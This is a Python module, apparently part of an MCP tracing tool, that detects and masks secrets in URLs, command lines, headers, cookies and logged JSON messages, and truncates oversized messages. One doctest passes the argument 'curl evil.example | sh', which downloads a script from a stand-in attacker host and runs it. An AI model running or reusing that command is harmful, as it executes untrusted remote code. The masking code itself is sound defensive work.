"""Finds and masks secrets: in URLs, command lines, headers and variables, in texts, and in messages that are kept."""

from __future__ import annotations

import base64
import html
import json
import re
from bisect import bisect_left
from collections import deque
from contextlib import suppress
from functools import lru_cache
from itertools import islice, takewhile
from typing import TYPE_CHECKING, Any
from urllib.parse import quote, unquote, unquote_plus, urlsplit

from mcp_magic.schema.secrets import EVERYDAY, MASK, STEMS, is_declared_secret, is_secret_name

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable, Mapping

SHORTEST = 4  # characters of the shortest secret that is masked: masking each "1" would make a message unreadable

_TOKEN = re.compile(r"(?=[^\d]*\d)(?=[^A-Za-z]*[A-Za-z])[\w~+=-]{16,}|eyJ[\w.-]{16,}")
"""Text that looks like a token, whatever its name: long, with letters and digits, no path and no host name."""

_PLAIN = re.compile(r"[\w+=~-]+")
_IN_PATHS = {character: quote(character, "") for character in "!$&'()*+,;=:@/"}
_ESCAPE = re.compile(r"%[0-9A-F]{2}")
_ENCODERS = (json.JSONEncoder(), json.JSONEncoder(ensure_ascii=False))
_URL_SAFE = str.maketrans("+/", "-_")
_ASSIGNMENT = re.compile(r"([\w.-]+)(?:=|:(?!//)\s*)")  # the start of `--name=value`, `NAME=value` or `Name: value`
_STRIPPED = "".join(map(chr, range(33)))  # what `urlsplit` takes from the start of a URL

_URL = re.compile(r"[A-Za-z][A-Za-z0-9+.-]{0,30}://\S+")
_PAIR = re.compile(r"(?<![\w.-])([\w.-]++)\s*+=\s*('[^']*'|[^\s'&]+)")


def mask_url(url: str) -> str:
    """Return `url` with user info and secret-looking query values masked, and without its fragment.

    >>> mask_url("https://me:pw@example.com/mcp?api_key=1&page=2")
    'https://***@example.com/mcp?api_key=***&page=2'
    """
    if user := _broken_user(url):
        url = url.replace(f"{user}@", f"{MASK}@", 1)
    try:
        parts = urlsplit(url)
    except ValueError:  # not a URL, so its secrets cannot be found
        return MASK
    netloc = parts.netloc
    if "@" in netloc:
        netloc = f"{MASK}@{netloc.rpartition('@')[2]}"
    # Not `urlunsplit`: it leaves out the slashes of `sqlite:///tmp/x.db`, and what is shown must be what is used.
    rest = url.lstrip(_STRIPPED)
    scheme = f"{rest[: len(parts.scheme)]}:" if parts.scheme else ""
    slashes = "//" if rest[len(scheme) :].startswith("//") else ""
    query = "&".join(map(_masked_pair, parts.query.split("&")))
    return f"{scheme}{slashes}{netloc}{parts.path}{'?' if query else ''}{query}"


def _broken_user(url: str) -> str:
    """Return the user info of a URL whose password has an unescaped `#`, `?` or `/`, or "".

    `urlsplit` ends the host there: the beginning of the password is a port then, or directly before the mark.
    """
    rest = url.partition("://")[2]
    user, at, _ = rest.rpartition("@")
    end = next((place for place, character in enumerate(rest) if character in "/?#"), len(rest))
    if not at or "@" in rest[:end]:
        return ""
    _, colon, port = rest[:end].rpartition(":")
    no_port = bool(colon) and not (port.isdecimal() or not port) and not port.endswith("]")
    return user if no_port or (rest[end] == "#" and end < len(user)) else ""


def _masked_pair(pair: str) -> str:
    name, equals, _ = pair.partition("=")
    return f"{name}={MASK}" if equals and is_declared_secret(unquote_plus(name)) else pair


def _mask_in_argument(url: str) -> str:
    """Return a URL in a command line masked, with its fragment: what is shown is what runs."""
    before, mark, fragment = url.partition("#")
    if "@" in fragment:  # the mark is in a password
        return mask_url(_without_user(url))
    return mask_url(before) + mark + "&".join(map(_masked_pair, fragment.split("&")))


def mask_text(text: str) -> str:
    """Return text with secrets masked in its URLs and `name=value` pairs, even if they contain special characters."""
    text = _URL.sub(lambda match: mask_url(_without_user(match[0])), text)
    return _PAIR.sub(lambda match: f"{match[1]}={MASK}" if is_declared_secret(match[1]) else match[0], text)


def mask_users(text: str) -> str:
    """Return text with secrets masked in those of its URLs that name a user.

    >>> mask_users('["postgres://me:pw@host/db", "https://x.org/?token=1"]')
    '["postgres://***@host/db", "https://x.org/?token=1"]'
    """
    if "://" not in text or "@" not in text:
        return text
    return _URL_IN_JSON.sub(lambda match: mask_url(match[0]) if "@" in match[0] else match[0], text)


def _without_user(url: str) -> str:
    scheme, _, rest = url.partition("://")  # a pattern would take quadratic time on "http://http://http://..."
    user, at, place = rest.rpartition("@")
    return f"{scheme}://{MASK}@{place}" if user and at else url


class Concealed(str):
    """A string that may hold a secret: an ordinary `str` with a masked repr.

    >>> where = Concealed("postgresql://me:sesame@db.example/threads")
    >>> where
    'postgresql://***@db.example/threads'
    >>> "sesame" in where
    True
    """

    __slots__ = ()

    def __repr__(self) -> str:
        return repr(mask_text(str(self)))


def mask_arguments(args: tuple[str, ...]) -> tuple[str, ...]:
    """Return command line arguments with the values of secret-looking options, variables and headers masked."""
    return tuple(text for text, _ in _masked_arguments(args))


def _masked_arguments(args: tuple[str, ...]) -> list[tuple[str, frozenset[str]]]:
    masked: list[tuple[str, frozenset[str]]] = []
    hide_next = False
    for arg in args:
        start = _secret_start(arg)
        if hide_next and not arg.startswith("-"):
            masked.append((MASK, frozenset({arg})))
        elif start is not None:
            masked.append((arg[:start] + MASK, credentials(arg[start:])))
        elif "://" in arg:
            secrets = frozenset(secret for url in _URL.findall(arg) for secret in url_secrets(url))
            masked.append((_URL.sub(lambda match: _mask_in_argument(match[0]), arg), secrets))
        else:
            masked.append((arg, frozenset()))
        hide_next = arg.startswith("-") and _ASSIGNMENT.match(arg) is None and is_declared_secret(arg)
    return masked


def _secret_start(arg: str) -> int | None:
    """Return the index of the value of a secret-looking name, also in `--header=Authorization: x`, or None."""
    match = _ASSIGNMENT.match(arg)
    while match:
        if is_declared_secret(match[1]):
            return match.end()
        match = _ASSIGNMENT.match(arg, match.end())
    return None


def credentials(value: str) -> frozenset[str]:
    """Return a header's value and the secrets in it: `x` of `Bearer x`, and for `Basic x` also its decoded text.

    >>> sorted(credentials("Basic bWU6c2VzYW1l"))
    ['Basic bWU6c2VzYW1l', 'bWU6c2VzYW1l', 'me:sesame', 'sesame']
    """
    scheme, _, word = value.rpartition(" ")
    decoded = ""
    if scheme.strip().lower() == "basic":
        with suppress(ValueError):
            decoded = base64.b64decode(f"{word}{'=' * (-len(word) % 4)}", validate=True).decode()
    return frozenset({value, word, decoded, decoded.partition(":")[2]} - {""})


def inner_secrets(secret: str) -> frozenset[str]:
    """Return a secret and those inside it: of `Bearer x` and `Basic x`, and user info and query of a URL.

    >>> sorted(inner_secrets("Bearer sesame")), sorted(inner_secrets("postgresql://me:sesame@db.example/x"))
    (['Bearer sesame', 'sesame'], ['me:sesame', 'postgresql://me:sesame@db.example/x', 'sesame'])
    """
    if secret[:7].lower().startswith(("basic ", "bearer ")):
        return credentials(secret)
    return frozenset({secret}) | (url_secrets(secret) if "://" in secret else frozenset())


def cookie_secrets(name: str, value: str) -> frozenset[str]:
    """Return the values of cookies: of all in a `Cookie` header, of the only one in `Set-Cookie`.

    >>> sorted(cookie_secrets("Cookie", "a=open; b=sesame")), sorted(cookie_secrets("set-cookie", "b=sesame; Path=/"))
    (['open', 'sesame'], ['sesame'])
    """
    pairs = value.split(";")[: 1 if name.lower() == "set-cookie" else None]
    return frozenset(pair.partition("=")[2].strip().strip('"') for pair in pairs) - {""}


def argument_secrets(args: tuple[str, ...]) -> frozenset[str]:
    """Return the secrets that `mask_arguments` masks."""
    return frozenset(secret for _, secrets in _masked_arguments(args) for secret in secrets)


def named_secrets(values: Mapping[str, str]) -> frozenset[str]:
    """Return the values of secret-looking names."""
    return frozenset(value for name, value in values.items() if is_declared_secret(name))


def header_secrets(headers: Mapping[str, str]) -> frozenset[str]:
    """Return the values of secret-looking headers, and the secrets inside them.

    These are the `x` of `Bearer x`, the password in `Basic x`, each value of a cookie, and the WebSocket subprotocols
    that look like tokens (a browser can send a token in no other header).

    >>> sorted(header_secrets({"Authorization": "Basic bWU6c2VzYW1l", "Cookie": "a=open; b=sesame"}))
    ['Basic bWU6c2VzYW1l', 'a=open; b=sesame', 'b=sesame', 'bWU6c2VzYW1l', 'me:sesame', 'open', 'sesame']
    """
    secrets = {part for value in named_secrets(headers) for part in credentials(value)}
    for name, value in headers.items():
        if name.lower() == "cookie":
            secrets |= cookie_secrets(name, value)
        elif name.lower() == "sec-websocket-protocol":
            secrets |= {word for part in value.split(",") if _TOKEN.fullmatch(word := part.strip())}
    return frozenset(secrets - {""})


def variable_secrets(values: Mapping[str, str]) -> frozenset[str]:
    """Return the values of a declaration's variables that are secrets by name, look like tokens, or are of a file.

    >>> sorted(variable_secrets({"MY_SECRET": "sesame", "HOST": "db1.example.com", "ID": "a1b2c3d4e5f6a7b8"}))
    ['a1b2c3d4e5f6a7b8', 'sesame']
    """
    return frozenset(
        value
        for name, value in values.items()
        if is_declared_secret(name) or name.startswith("file:") or _TOKEN.fullmatch(value)
    )


def with_names(text: str, values: Mapping[str, str]) -> str:
    """Return text with the values of variables replaced by `${NAME}`.

    >>> with_names("https://a.example/s3cret/mcp", {"MY_SECRET": "s3cret"})
    'https://a.example/${MY_SECRET}/mcp'
    """
    for name, value in sorted(values.items(), key=lambda pair: len(pair[1]), reverse=True):
        if len(value) >= SHORTEST:
            text = text.replace(value, f"${{{name}}}")
    return text


def stable_arguments(args: tuple[str, ...]) -> tuple[str, ...]:
    """Return arguments with tokens masked, so that a program keeps its identity when its secrets change.

    An argument stays if its secret could be a program, a file or a shell command.

    >>> stable_arguments(("--token", "ghp_16C7e42F", "-c", "TOKEN=x; curl evil.example | sh", "--key", "server.py"))
    ('--token', '***', '-c', 'TOKEN=x; curl evil.example | sh', '--key', 'server.py')
    """
    masked = zip(args, _masked_arguments(args), strict=True)
    return tuple(text if all(map(_PLAIN.fullmatch, secrets)) else arg for arg, (text, secrets) in masked)


def url_secrets(url: str) -> frozenset[str]:
    """Return user info and secret-looking query values of a URL, as written and decoded."""
    if user := _broken_user(url):
        password = user.partition(":")[2]
        return frozenset(filter(None, (user, unquote(user), password, unquote(password))))
    try:
        parts = urlsplit(url)
    except ValueError:
        return frozenset({url})
    user = parts.netloc.rpartition("@")[0]
    hidden = [user, unquote(user), parts.password or "", unquote(parts.password or "")]
    for pair in parts.query.split("&"):
        name, _, value = pair.partition("=")
        if is_declared_secret(name):
            hidden += [value, unquote_plus(value)]
    return frozenset(value for value in hidden if value)


def long_enough(values: Iterable[str]) -> frozenset[str]:
    """Return the values that are long enough to mask; see `SHORTEST`."""
    return frozenset(value for value in values if len(value) >= SHORTEST)


@lru_cache(maxsize=1024)
def spellings(secret: str) -> frozenset[str]:
    """Return the forms in which a secret may appear: unchanged, in a URL, in JSON, in HTML."""
    in_query = in_path = quote(secret, "", errors="replace")  # UTF-8 cannot encode a lone surrogate
    for character, escape in _IN_PATHS.items():
        in_path = in_path.replace(escape, character)
    forms = {secret, html.escape(secret), in_query, in_query.replace("%20", "+"), in_path}
    forms |= {_with_lower_escapes(text) for text in forms}
    for _ in range(3):  # JSON, JSON in a string of JSON, and that in the JSON of a message
        more = {encoder.encode(text)[1:-1] for text in forms for encoder in _ENCODERS}
        if more <= forms:
            break
        forms |= more
    forms |= {text.replace("/", "\\/") for text in forms if "\\" not in text}
    return frozenset(forms)


def _with_lower_escapes(text: str) -> str:
    for escape in set(_ESCAPE.findall(text)):
        text = text.replace(escape, escape.lower())
    return text


@lru_cache(maxsize=1024)
def _in_base64(secret: str) -> frozenset[str]:
    """Return the parts of base64 that every longer text with the secret has (such as `user:password`)."""
    forms: set[str] = set()
    data = secret.encode("utf-8", "replace")
    if len(data) < 6:
        return frozenset()
    for before in range(3):
        text = base64.b64encode(b"\0" * before + data).decode()
        part = text[(0, 2, 3)[before] : (before + len(data)) * 8 // 6]
        forms |= {part, part.translate(_URL_SAFE)} | ({text} if not before else set())
    return frozenset(forms)


_LONG_WORD = re.compile(r"[A-Za-z0-9+/_-]{8}")  # every text with the base64 of a secret has such a word


def _longest_first(forms: Iterable[frozenset[str]]) -> tuple[str, ...]:
    return tuple(sorted(frozenset().union(*forms), key=len, reverse=True))


# Cuts for messages that are too long to keep.

KEPT_BYTES = 20_000  # most bytes of a message that is kept whole

CUT_BYTES = 5_000  # about how many bytes are kept of a longer message in the trace

ESTIMATED_NODES, SAMPLE = 2000, 32
"""Most values of a message, and about how many of one container, from which the size of a long message is estimated."""

KEPT_NODES = 400  # most values that are kept of a cut message

SHORT_NAME = 40  # most characters of a name that is kept whatever is left out

VALUE_BYTES = 100  # bytes that a value counts besides its characters

LONGEST = 2000  # most characters of a secret that is masked where a cut goes through it; base64 makes it a third longer

DEEPEST = 40  # most levels of a message that are kept, because of Python's stack


class Cut:
    """The beginning of a message, within limits for values and characters."""

    def __init__(self, hide: Callable[[str], str], characters: int = KEPT_BYTES) -> None:
        self._hide = hide
        self._nodes = KEPT_NODES
        self._characters = self._most = characters

    @property
    def size(self) -> int:
        """The approximate size in bytes of what was kept."""
        return self._most - max(self._characters, 0) + VALUE_BYTES * (KEPT_NODES - self._nodes)

    def value(self, value: Any, depth: int = 0) -> Any:
        """Return a value, or its beginning."""
        self._nodes -= 1
        if isinstance(value, str):
            return self._text(value)
        if not isinstance(value, dict | list | tuple):
            return value
        if depth >= DEEPEST or self._nodes <= 0:
            return _rest(len(value))
        if isinstance(value, dict):
            return self._members(value, depth + 1)
        items = [self.value(inner, depth + 1) for inner in takewhile(self._has_room, value)]
        return items if len(items) == len(value) else [*items, _rest(len(value) - len(items))]

    def _members(self, value: dict[Any, Any], depth: int) -> dict[str, Any]:
        members = {}
        for key, inner in takewhile(self._has_room, value.items()):
            name = str(key)
            members[name if len(name) <= SHORT_NAME else self._text(name)] = self.value(inner, depth)
        return members if len(members) == len(value) else {**members, "…": _rest(len(value) - len(members))}

    def _has_room(self, _: object) -> bool:
        return self._nodes > 0

    def _text(self, text: str) -> str:
        limit = max(self._characters, 0)
        self._characters -= len(text)
        if len(text) <= limit:
            return text
        # mask first: half of a secret at the cut is secret too
        return f"{self._hide(text[: limit + 2 * LONGEST])[:limit]}… ({len(text):,} characters)"


def _rest(count: int) -> str:
    return f"… ({count:,} more)"


_REST = re.compile(r"… \((\d[\d,]{0,19}) more\)")


def whole_length(value: dict[str, Any] | list[Any]) -> int:
    """Return how many values a container had before it was cut.

    >>> whole_length(["a", "b", "… (1,998 more)"]), whole_length({"a": 1, "…": "… (2 more)"}), whole_length(["a"])
    (2000, 3, 1)
    """
    rest = left_out(value)
    return len(value) if rest is None else len(value) - 1 + rest


def left_out(value: dict[str, Any] | list[Any]) -> int | None:
    """Return how many values of a container were cut, which its last value says; None if it is whole."""
    last = next(reversed(value.values() if isinstance(value, dict) else value), None)
    rest = _REST.fullmatch(last) if isinstance(last, str) else None
    return None if rest is None else int(rest[1].replace(",", ""))


# Masks for messages, before the trace keeps them. Few messages hold secrets, so the JSON text is first searched for
# words that mark secrets, and only a message with such a word is walked. A long message is cut before that.

LEARNED = 64  # most remembered values of secret-looking names; they are masked wherever they appear again

_WORD = rf"{'|'.join(STEMS)}|://|pat[\d_]*[\"'\\=:]"
"""A word that each JSON text in lower case contains in which the code below finds an unknown secret. `pat` counts only
at the end of a name, because it is part of many other words."""

_NAMED_VALUE = re.compile(
    r"""(?<![\w.-])(?P<name>[\w.-]{2,100})(?:(?P<quote>\\?["'])\s*:\s*(?P<number>-?\d[\d.eE+-]*)|"""
    r"""(?:\\?["']\s*:\s*\\?["']|=\s*\\?["']?|(?P<said>:\s+)(?=\S{8}))(?P<value>[^"'\\\s&;,<>]+))"""
)
"""`"password": "x"`, `"password": 1`, `TOKEN=x`, `Authorization: x` inside a text."""
_SCHEME = re.compile(r"(?i)\b(?P<scheme>bearer|basic)(?P<space>\s+)(?P<word>[\w.~+/=-]{6,})")
_COOKIE = re.compile(
    r"""(?i)\b(?P<name>(?:set-)?cookie)(?P<between>\\?["']?\s{0,3}[:=,]\s{0,3}\\?["']?)"""
    r"""(?P<value>[\w.~!#$%&*+^|-]{1,100}=[^"'\\\r\n]++)"""
)
"""`Set-Cookie: a=b; Path=/` and `Cookie: a=b; c=d` inside a text."""

COOKIE_CHARACTERS = 8
"""Characters of the shortest value of a cookie that is learned: shorter ones may be `dark` or `en`."""

_URL_IN_JSON = re.compile(r"[A-Za-z][A-Za-z0-9+.-]{0,30}://[^\s\"'<>]+")

_NO_SECRETS = frozenset({"true", "false", "none", "null", "bearer", "basic", "string", MASK})
"""Values of secret-looking names that are not learned, because masking them everywhere would hide half a message."""


@lru_cache(maxsize=1)
def _pydantics() -> tuple[Callable[..., bytes], Callable[[bytes], bool]]:
    """Return what writes JSON, and what tells whether a text in lower case has a `_WORD`.

    The search is that of Rust, which looks for all words at once: Python's `re` and a search for one word after the
    other take ten to forty times as long.
    """
    from pydantic_core import SchemaValidator, core_schema
    from pydantic_core import to_json as dump

    return dump, SchemaValidator(core_schema.str_schema(pattern=_WORD)).isinstance_python


def to_json(value: Any) -> bytes:
    """Return JSON text, or b"" if a value cannot be written; values that are not JSON become text."""
    dump, _ = _pydantics()
    try:
        return dump(value, fallback=str)
    except ValueError:  # a lone surrogate, or thousands of levels
        pass
    try:
        return json.dumps(value, default=str).encode()
    except (ValueError, TypeError, RecursionError):
        return b""


def is_long(value: dict[str, Any]) -> bool:
    """Return whether a message is surely longer than `KEPT_BYTES` as JSON; looks at 10,000 values at most."""
    budget = KEPT_BYTES
    containers: list[Any] = [value]
    for container in containers:  # it grows meanwhile
        for inner in container.values() if type(container) is dict else container:
            kind = type(inner)
            if kind is str:
                budget -= len(inner)
            elif kind is dict or kind is list:
                budget -= 2 * len(inner)
                if budget < 0:
                    return True
                containers.append(inner)
    return budget < 0


def estimated_size(value: Any) -> int:
    """Return about how many bytes a value has as JSON, from the beginning of a text and some items of a container.

    >>> estimated_size({"text": "é" * 1_000_000})
    2000011
    >>> rows = [{"number": number, "name": "x" * 50} for number in range(100_000)]
    >>> 0.99 < estimated_size({"rows": rows}) / len(to_json({"rows": rows})) < 1.01
    True
    """
    size = 0.0
    values = deque([(value, 1.0)])
    for _ in range(ESTIMATED_NODES):
        if not values:
            break
        value, weight = values.popleft()
        if isinstance(value, str):
            start = value[:CUT_BYTES]
            size += weight * ((len(to_json(start)) - 2) / max(1, len(start)) * len(value) + 2)
        elif isinstance(value, dict | list | tuple):
            size += weight * (len(value) + 1)
            sample = list(islice(value, 0, None, max(1, len(value) // SAMPLE)))
            weight *= len(value) / max(1, len(sample))
            if isinstance(value, dict):
                size += weight * sum(len(str(name)) + 3 for name in sample)
                sample = [value[name] for name in sample]
            values.extend((inner, weight) for inner in sample)
        else:
            size += weight * len(str(value))
    return round(size)


class Masker:
    """Masks the messages of one connection: known secrets, values of secret-looking names, bearer tokens."""

    def __init__(self, secrets: Iterable[str]) -> None:
        self.secrets = frozenset(secrets)
        self._learned: dict[str, None] = {}
        self._entered: frozenset[str] = frozenset()
        self._find_forms()
        self._dump, self._finds_word = _pydantics()

    def __repr__(self) -> str:
        return "<Masker>"

    def _find_forms(self) -> None:
        self._forms = _longest_first(map(spellings, (*self.secrets, *self._learned)))
        self._encoded: tuple[str, ...] | None = None

    def _encoded_forms(self) -> tuple[str, ...]:
        if self._encoded is None:  # found when a text may have one
            self._encoded = _longest_first(map(_in_base64, (*self.secrets, *self._learned)))
        return self._encoded

    def write(self, message: dict[str, Any]) -> tuple[bytes, int, bool]:
        """Return the JSON text to keep of a message, its size in bytes, and whether the text is all of it.

        A long message is cut before it is written, since writing it whole takes longer than recording the call, and
        its size is estimated. The text is not masked yet.
        """
        if not is_long(message):
            try:
                text = self._dump(message)
            except ValueError:  # a value that is not JSON
                text = to_json(message)
            if 0 < len(text) <= KEPT_BYTES:
                return text, len(text), True
        text = to_json(Cut(self.hide, CUT_BYTES).value(message))
        return text, max(estimated_size(message), KEPT_BYTES + 1), False

    def mask(self, text: bytes, *, schemas: bool = False) -> bytes:
        """Return the JSON text of a message with its secrets masked; the same object if there are none.

        With `schemas` it holds JSON Schemas, in which "password" is the name of a property and not of a secret.
        """
        if not self.may_hold_secrets(text):
            return text
        masked = to_json(self.mask_value(json.loads(text), schemas=schemas))
        return text if masked == text else masked

    def may_hold_secrets(self, text: bytes) -> bool:
        """Whether JSON text, of one message or of several, may hold a secret."""
        if self._has_word(text.lower()):  # bytes become lower case ten times faster than a str
            return True
        if not (self._forms or self._entered):
            return False
        decoded = text.decode("utf-8", "replace")
        if self._entered and '"accept"' in decoded:
            return True
        return any(form in decoded for form in self._forms) or any(form in decoded for form in self._encoded_forms())

    def _has_word(self, lowered: bytes) -> bool:
        """Whether UTF-8 text in lower case has one of the words."""
        if not self._finds_word(lowered):
            return False
        return b"progresstoken" not in lowered or self._finds_word(lowered.replace(b"progresstoken", b""))

    def mask_value(self, value: Any, *, schemas: bool = False) -> Any:
        """Return a value masked, without a cut."""
        forms = self._forms
        masked = self._walk(value, schemas)
        # a secret learned late may also occur at the beginning
        return masked if self._forms is forms else self._hidden(masked)

    def _hidden(self, value: Any) -> Any:
        """Return a masked value without the secrets that were learned after it was masked."""
        if isinstance(value, str):
            return self.hide(value)
        if isinstance(value, dict):
            return {self.hide(name): self._hidden(inner) for name, inner in value.items()}
        if isinstance(value, list):
            return [self._hidden(inner) for inner in value]
        return value

    def _walk(self, value: Any, schemas: bool) -> Any:
        if isinstance(value, str):
            return self.text(value)
        if isinstance(value, dict):
            value = self._without_entered(value)
            return {self.hide(str(name)): self._member(str(name), inner, schemas) for name, inner in value.items()}
        if isinstance(value, list | tuple):
            return [self._walk(inner, schemas) for inner in value]
        return value

    def _without_entered(self, value: dict[str, Any]) -> dict[str, Any]:
        """Return the user's answer (`ElicitResult`) without its concealed values."""
        content = value.get("content")
        if not self._entered or value.get("action") != "accept" or not isinstance(content, dict):
            return value
        return {**value, "content": {n: MASK if n in self._entered else inner for n, inner in content.items()}}

    def _member(self, name: str, value: Any, schemas: bool) -> Any:
        secret = value is not None and not isinstance(value, bool) and is_secret_name(name)
        if secret and isinstance(value, int | float) and name.lower() in EVERYDAY:  # of a summary, as "pass": 12
            secret = False
        if secret and not (schemas and isinstance(value, dict)):
            if isinstance(value, str) and name.lower() in ("cookie", "set-cookie"):
                self.learn_cookies(name, value)
            self.learn(value)
            return MASK
        return self._walk(value, schemas)

    def know(self, secrets: Iterable[str]) -> None:
        """Mask these secrets too from now on."""
        fresh = long_enough(secrets) - self.secrets
        if fresh:
            self.secrets |= fresh
            self._find_forms()

    def conceal(self, answered: Mapping[str, Any]) -> None:
        """Mask the user's answers to a server: their texts everywhere, and in answers all values of these names."""
        self._entered |= answered.keys()
        self.know(value for value in answered.values() if isinstance(value, str))

    def learn(self, value: Any) -> None:
        """Remember the texts in a secret value, and the secrets inside them."""
        if isinstance(value, dict | list):
            for inner in value.values() if isinstance(value, dict) else value:
                self.learn(inner)
        elif isinstance(value, str):
            for secret in inner_secrets(value):
                self._learn(secret)

    def learn_cookies(self, name: str, value: str) -> None:
        """Remember the values of cookies, given a header `Cookie` or `Set-Cookie`."""
        for secret in cookie_secrets(name, value):
            if len(secret) >= COOKIE_CHARACTERS:
                self._learn(secret)

    def _learn(self, secret: str) -> None:
        is_new = secret not in self._learned and secret not in self.secrets
        if is_new and SHORTEST <= len(secret) <= LONGEST and secret.lower() not in _NO_SECRETS:
            if len(self._learned) >= LEARNED:
                del self._learned[next(iter(self._learned))]
            self._learned[secret] = None
            self._find_forms()

    def hide(self, text: str) -> str:
        """Return text with the known secrets masked."""
        if not self._forms or len(text) < len(self._forms[-1]):
            return text
        for forms in (self._forms, self._encoded_forms() if _LONG_WORD.search(text) else ()):
            # the longest come first: skip those longer than the text
            for form in forms[bisect_left(forms, -len(text), key=lambda form: -len(form)) :]:
                if form in text:
                    text = text.replace(form, MASK)
        return text

    def text(self, text: str) -> str:
        """Return text with known secrets masked, and everything that looks like a secret.

        >>> Masker(()).text("GET https://me:pw@x.org/ with Authorization: Bearer abcdefgh and API_KEY=xyz")
        'GET https://***@x.org/ with Authorization: Bearer *** and API_KEY=***'
        >>> Masker(()).text("Set-Cookie: sid=s3same-4711; Path=/ (it was sid=s3same-4711)")
        'Set-Cookie: ***'
        """
        text = self.hide(text)
        if "://" in text and ("@" in text or "?" in text):
            text = _URL_IN_JSON.sub(lambda match: mask_url(match[0]), text)
        lowered = text.lower()
        if self._has_word(lowered.encode("utf-8", "replace")):
            if "cookie" in lowered:
                for cookie in _COOKIE.finditer(text):
                    self.learn_cookies(cookie["name"], cookie["value"])
                text = _COOKIE.sub(rf"\g<name>\g<between>{MASK}", text)
            text = _SCHEME.sub(self._without_credentials, _without_named(text))
        return text

    def _without_credentials(self, match: re.Match[str]) -> str:
        """Mask `x` of `Basic x` and `Bearer x`; remember it if it is no prose but a user with a password."""
        if any(":" in part for part in credentials(f"{match['scheme']} {match['word']}")):
            self.learn(f"{match['scheme']} {match['word']}")
        return f"{match['scheme']}{match['space']}{MASK}"


def _without_named(text: str) -> str:
    """Return text with the values masked that follow the name of a secret."""
    parts, end = [], 0
    for match in _NAMED_VALUE.finditer(text):
        name, part = match["name"], "value" if match["number"] is None else "number"
        if not is_secret_name(name) or match[part].lower() in ("bearer", "basic"):
            continue
        if name.lower() not in EVERYDAY or not (match["said"] or match["number"] or len(match["value"]) < 4):
            quote = match["quote"] or ""  # so that JSON stays JSON without the number
            parts += [text[end : match.start(part)], f"{quote}{MASK}{quote}"]
            end = match.end(part)
    return "".join([*parts, text[end:]])
